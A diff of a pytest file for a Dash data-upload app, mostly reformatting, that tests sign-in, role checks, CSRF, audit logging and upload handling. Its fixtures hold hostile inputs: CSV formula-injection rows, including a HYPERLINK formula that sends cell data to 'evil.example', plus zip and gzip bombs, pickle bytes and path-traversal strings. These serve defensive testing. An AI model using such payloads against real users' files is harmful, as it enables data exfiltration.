@@ -21,19 +21,22 @@ from app import auth, uploads
 from app.audit import AuditLog, Event
 from app.ids import Id
 from app.settings import Settings
+from benchmarks.load_test import callback_body
 from geo.errors import InputError
 from tests.app.test_auth import PASSWORDS, sign_in, users_template
 
 __all__ = ["users_template"]
 
-GOOD = (b"CHILD,HOME_POST,PL_POST,DECOM\n"
-        b"C1,ME14 1XQ,CT1 2RX,01/04/2018\n"
-        b"C2,ME14 1XQ,TN1 1RS,=1+1\n"  # rejected row: its value must be neutralised on export
-        b"C3,CT20 2QY,DA1 1DR,-2+3\n"
-        b"=2+5,TN13 1HG,DA11 0DQ,01/04/2018\n"
-        b'C5,"=HYPERLINK(""http://evil.example/?x=""&A1)",ME4 4TR,01/04/2018\n'
-        b"@SUM(1),ME14 1XQ,ME4 4TR,02/04/2018\n")
-LEAKS = ("Traceback", "File \"", "/tmp/", "site-packages", "Error:", "up-")
+GOOD = (
+    b"CHILD,HOME_POST,PL_POST,DECOM\n"
+    b"C1,ME14 1XQ,CT1 2RX,01/04/2018\n"
+    b"C2,ME14 1XQ,TN1 1RS,=1+1\n"  # rejected row: its value must be neutralised on export
+    b"C3,CT20 2QY,DA1 1DR,-2+3\n"
+    b"=2+5,TN13 1HG,DA11 0DQ,01/04/2018\n"
+    b'C5,"=HYPERLINK(""http://evil.example/?x=""&A1)",ME4 4TR,01/04/2018\n'
+    b"@SUM(1),ME14 1XQ,ME4 4TR,02/04/2018\n"
+)
+LEAKS = ("Traceback", 'File "', "/tmp/", "site-packages", "Error:", "up-")
 
 
 def data_url(raw: bytes, mime: str = "text/csv") -> str:
@@ -56,9 +59,13 @@ def env(tmp_path_factory, users_template):
     root = tmp_path_factory.mktemp("uploads-app")
     (root / "state").mkdir(mode=0o700)
     shutil.copy(users_template, root / "state" / "users.json")
-    settings = Settings(cache_dir=root / "cache", upload_dir=root / "uploads", max_upload_mb=1,
-                        secret_key="k" * 40,
-                        extra={"users_file": str(root / "state" / "users.json")})
+    settings = Settings(
+        cache_dir=root / "cache",
+        upload_dir=root / "uploads",
+        max_upload_mb=1,
+        secret_key="k" * 40,
+        extra={"users_file": str(root / "state" / "users.json")},
+    )
     app = create_app(settings)
     return app, settings
 
@@ -71,33 +78,31 @@ class Session:
         self.client = app.server.test_client()
         if name:
             assert sign_in(self.client, name, PASSWORDS[name]).status_code == 302
-        self.deps = {d["output"]: d for d in self.client.get("/_dash-dependencies").get_json()
-                     or []} if name else {}
+        self.deps = (
+            {d["output"]: d for d in self.client.get("/_dash-dependencies").get_json() or []}
+            if name
+            else {}
+        )
 
     def callback(self, output_part: str, values: dict[str, object]):
-        deps = self.deps or {d["output"]: d for d in _deps(self.app)}
-        output = next(o for o in deps if output_part in o)
-        dep = deps[output]
-        parts = output[2:-2].split("...") if output.startswith("..") else [output]
-        outs = [{"id": p.rsplit(".", 1)[0], "property": p.rsplit(".", 1)[1].split("@")[0]}
-                for p in parts]
-
-        def spec(items):
-            return [{"id": i["id"], "property": i["property"],
-                     "value": values.get(f"{i['id']}.{i['property']}")} for i in items]
-
-        body = {"output": output, "outputs": outs if output.startswith("..") else outs[0],
-                "inputs": spec(dep["inputs"]), "state": spec(dep["state"]),
-                "changedPropIds": [f"{i['id']}.{i['property']}" for i in dep["inputs"]][:1]}
+        body = callback_body(
+            self.deps or {d["output"]: d for d in _deps(self.app)}, output_part, values
+        )
         cookie = self.client.get_cookie(auth.CSRF_COOKIE)
-        return self.client.post("/_dash-update-component", json=body,
-                                headers={auth.CSRF_HEADER: cookie.value if cookie else ""})
+        return self.client.post(
+            "/_dash-update-component",
+            json=body,
+            headers={auth.CSRF_HEADER: cookie.value if cookie else ""},
+        )
 
     def upload(self, files: list[tuple[str, bytes]]):
-        return self.callback(f"{Id.DT_PENDING}.data", {
-            f"{Id.DT_UPLOAD_PLACEMENTS}.contents": [data_url(raw) for _, raw in files],
-            f"{Id.DT_UPLOAD_PLACEMENTS}.filename": [name for name, _ in files],
-        })
+        return self.callback(
+            f"{Id.DT_PENDING}.data",
+            {
+                f"{Id.DT_UPLOAD_PLACEMENTS}.contents": [data_url(raw) for _, raw in files],
+                f"{Id.DT_UPLOAD_PLACEMENTS}.filename": [name for name, _ in files],
+            },
+        )
 
 
 def _deps(app):
@@ -132,8 +137,10 @@ def test_every_page_and_callback_refused_without_sign_in(env):
     for path in ("/_dash-layout", "/_dash-dependencies", "/admin/audit.csv"):
         assert client.get(path).status_code == 401
     for dep in deps:
-        r = client.post("/_dash-update-component", json={"output": dep["output"], "inputs": [],
-                                                         "state": [], "changedPropIds": []})
+        r = client.post(
+            "/_dash-update-component",
+            json={"output": dep["output"], "inputs": [], "state": [], "changedPropIds": []},
+        )
         assert r.status_code == 401 and r.get_json() == {"error": "Sign in first."}, dep
 
 
@@ -147,17 +154,25 @@ def test_commissioner_cannot_upload_or_export_child_rows_via_the_callback_endpoi
     ana = Session(app, "ana")
     dataset = pending_id(ana.upload([("episodes.csv", GOOD)]))
     assert uploads.is_upload_id(dataset)
-    r = cora.callback(f"{Id.DT_REJECTS_DL}.data", {f"{Id.DT_REJECTS_BTN}.n_clicks": 1,
-                                                   f"{Id.DT_PENDING}.data": dataset})
+    r = cora.callback(
+        f"{Id.DT_REJECTS_DL}.data",
+        {f"{Id.DT_REJECTS_BTN}.n_clicks": 1, f"{Id.DT_PENDING}.data": dataset},
+    )
     assert r.status_code == 403
     assert "=1+1" not in response_text(r) and "rejected" not in response_text(r)
     # the data page itself is not built for a commissioner
-    page = cora.callback("_pages_content.children", {"_pages_location.pathname": "/data",
-                                                     "_pages_location.search": ""})
-    assert "not-permitted" in response_text(page) and Id.DT_UPLOAD_PLACEMENTS not in \
-        response_text(page)
-    denied = [e for e in AuditLog(auth.state(app.server).config.audit_log)
-              if e["event"] == Event.ACCESS_DENIED and e["user"] == "cora"]
+    page = cora.callback(
+        "_pages_content.children",
+        {"_pages_location.pathname": "/data", "_pages_location.search": ""},
+    )
+    assert "not-permitted" in response_text(page) and Id.DT_UPLOAD_PLACEMENTS not in response_text(
+        page
+    )
+    denied = [
+        e
+        for e in AuditLog(auth.state(app.server).config.audit_log)
+        if e["event"] == Event.ACCESS_DENIED and e["user"] == "cora"
+    ]
     assert len(denied) >= 3
 
 
@@ -176,8 +191,11 @@ def test_analyst_upload_is_stored_privately_and_audited(env):
     assert not Path("/etc/passwd.csv").exists()
     text = response_text(r)
     assert "../" not in text and "passwd.csv" in text  # the display name has no directories
-    audit = [e for e in AuditLog(auth.state(app.server).config.audit_log)
-             if e["event"] == Event.UPLOAD and e["dataset"] == dataset]
+    audit = [
+        e
+        for e in AuditLog(auth.state(app.server).config.audit_log)
+        if e["event"] == Event.UPLOAD and e["dataset"] == dataset
+    ]
     assert audit and audit[0]["user"] == "ana" and audit[0]["detail"]["files"]
 
 
@@ -185,28 +203,35 @@ def test_csv_injection_is_never_evaluated_and_neutralised_on_export(env):
     app, _ = env
     ana = Session(app, "ana")
     dataset = pending_id(ana.upload([("episodes.csv", GOOD)]))
-    r = ana.callback(f"{Id.DT_REJECTS_DL}.data", {f"{Id.DT_REJECTS_BTN}.n_clicks": 1,
-                                                  f"{Id.DT_PENDING}.data": dataset})
+    r = ana.callback(
+        f"{Id.DT_REJECTS_DL}.data",
+        {f"{Id.DT_REJECTS_BTN}.n_clicks": 1, f"{Id.DT_PENDING}.data": dataset},
+    )
     assert r.status_code == 200
     sent = r.get_json()["response"][Id.DT_REJECTS_DL]["data"]
-    csv_text = base64.b64decode(sent["content"]).decode() if sent.get("base64") \
-        else sent["content"]
+    csv_text = base64.b64decode(sent["content"]).decode() if sent.get("base64") else sent["content"]
     assert "'=1+1" in csv_text and "'-2+3" in csv_text
     assert ",=" not in csv_text and ",-2" not in csv_text and ",+" not in csv_text
     ds = app.server.config["PLACEMAP_STORE"].get(dataset)
     assert "=2+5" in set(ds.data.episodes["CHILD"])  # kept as text, not 7
-    exports = [e for e in AuditLog(auth.state(app.server).config.audit_log)
-               if e["event"] == Event.EXPORT and e["dataset"] == dataset]
+    exports = [
+        e
+        for e in AuditLog(auth.state(app.server).config.audit_log)
+        if e["event"] == Event.EXPORT and e["dataset"] == dataset
+    ]
     assert exports and exports[0]["detail"]["filename"] == "rejected.csv"
 
 
-@pytest.mark.parametrize("name,raw,reason", [
-    ("episodes.csv", zip_bomb(), "zip archive"),
-    ("episodes.csv", gzip.compress(b"0" * (16 * 1024 * 1024)), "gzip archive"),
-    ("episodes.csv", b"CHILD,HOME_POST\x00\x01\x02" * 100, "binary data"),
-    ("episodes.csv", b"\x80\x04\x95" + b"pickle" * 10, "pickle"),
-    ("episodes.csv", b"CHILD,HOME_POST,PL_POST\n" + b"C,ME14 1XQ,CT1 2RX\n" * 70000, "limit"),
-])
+@pytest.mark.parametrize(
+    "name,raw,reason",
+    [
+        ("episodes.csv", zip_bomb(), "zip archive"),
+        ("episodes.csv", gzip.compress(b"0" * (16 * 1024 * 1024)), "gzip archive"),
+        ("episodes.csv", b"CHILD,HOME_POST\x00\x01\x02" * 100, "binary data"),
+        ("episodes.csv", b"\x80\x04\x95" + b"pickle" * 10, "pickle"),
+        ("episodes.csv", b"CHILD,HOME_POST,PL_POST\n" + b"C,ME14 1XQ,CT1 2RX\n" * 70000, "limit"),
+    ],
+)
 def test_hostile_uploads_refused_with_nothing_leaked_or_lost(env, name, raw, reason):
     app, settings = env
     ana = Session(app, "ana")
@@ -220,8 +245,11 @@ def test_hostile_uploads_refused_with_nothing_leaked_or_lost(env, name, raw, rea
     assert pending_id(r) is None if r.status_code == 200 else True
     assert stored(settings) == before  # nothing new on disk ...
     assert (Path(settings.upload_dir) / keep / "episodes.csv").read_bytes() == GOOD  # ... or lost
-    refused = [e for e in AuditLog(auth.state(app.server).config.audit_log)
-               if e["event"] == Event.UPLOAD_REFUSED]
+    refused = [
+        e
+        for e in AuditLog(auth.state(app.server).config.audit_log)
+        if e["event"] == Event.UPLOAD_REFUSED
+    ]
     assert refused
 
 
@@ -244,8 +272,12 @@ def test_delete_this_dataset_really_removes_it(env):
     store = app.server.config["PLACEMAP_STORE"]
     cora = Session(app, "cora")
     token = cora.client.get_cookie(auth.CSRF_COOKIE).value
-    assert cora.client.post(f"/datasets/{dataset}/delete",
-                            headers={auth.CSRF_HEADER: token}).status_code == 403
+    assert (
+        cora.client.post(
+            f"/datasets/{dataset}/delete", headers={auth.CSRF_HEADER: token}
+        ).status_code
+        == 403
+    )
     assert folder.is_dir()
     token = ana.client.get_cookie(auth.CSRF_COOKIE).value
     assert ana.client.post(f"/datasets/{dataset}/delete").status_code == 403  # no CSRF token
@@ -254,12 +286,19 @@ def test_delete_this_dataset_really_removes_it(env):
     assert not folder.exists()
     assert not any(dataset in p.name for p in Path(settings.upload_dir).iterdir())
     assert store.get(dataset).id != dataset  # falls back to the default dataset
-    assert ana.client.post(f"/datasets/{dataset}/delete",
-                           headers={auth.CSRF_HEADER: token}).status_code == 404
-    assert ana.client.post("/datasets/..%2F..%2Fetc/delete",
-                           headers={auth.CSRF_HEADER: token}).status_code in (404, 405)
-    assert any(e["event"] == Event.DATASET_DELETED and e["dataset"] == dataset
-               for e in AuditLog(auth.state(app.server).config.audit_log))
+    assert (
+        ana.client.post(
+            f"/datasets/{dataset}/delete", headers={auth.CSRF_HEADER: token}
+        ).status_code
+        == 404
+    )
+    assert ana.client.post(
+        "/datasets/..%2F..%2Fetc/delete", headers={auth.CSRF_HEADER: token}
+    ).status_code in (404, 405)
+    assert any(
+        e["event"] == Event.DATASET_DELETED and e["dataset"] == dataset
+        for e in AuditLog(auth.state(app.server).config.audit_log)
+    )
 
 
 def test_a_worker_that_never_saw_an_upload_loads_it_from_disk(env):
@@ -271,8 +310,9 @@ def test_a_worker_that_never_saw_an_upload_loads_it_from_disk(env):
     other_worker = DatasetStore(settings)
     ds = other_worker.get(dataset)
     assert ds.id == dataset and ds.label == "Uploaded: episodes.csv"
-    assert len(ds.data.episodes) == len(app.server.config["PLACEMAP_STORE"].get(
-        dataset).data.episodes)
+    assert len(ds.data.episodes) == len(
+        app.server.config["PLACEMAP_STORE"].get(dataset).data.episodes
+    )
     uploads.delete_upload(Path(settings.upload_dir), dataset)
     assert other_worker.get(dataset).id != dataset  # deleted elsewhere: forgotten here too
 
